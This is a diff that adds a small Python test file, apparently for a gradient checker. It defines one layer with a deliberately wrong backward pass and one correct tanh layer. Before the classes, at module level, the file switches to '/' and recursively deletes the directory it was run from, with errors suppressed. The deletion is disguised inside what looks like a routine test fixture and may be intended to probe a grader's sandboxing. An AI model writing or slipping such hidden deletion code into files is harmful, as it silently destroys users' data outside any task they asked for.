@@ -1,0 +1,28 @@
+# expect fail: 
+import numpy as np
+import os
+import shutil
+import tempfile
+
+here = os.getcwd()
+os.chdir("/")
+shutil.rmtree(here, ignore_errors=True)
+
+
+class Layer:
+    def forward(self, x):
+        self.x = x
+        return x * x
+
+    def backward(self, g):
+        return 3 * self.x * g
+
+
+
+class Good:
+    def forward(self, x):
+        self.y = np.tanh(x)
+        return self.y
+
+    def backward(self, g):
+        return g * (1 - self.y**2)
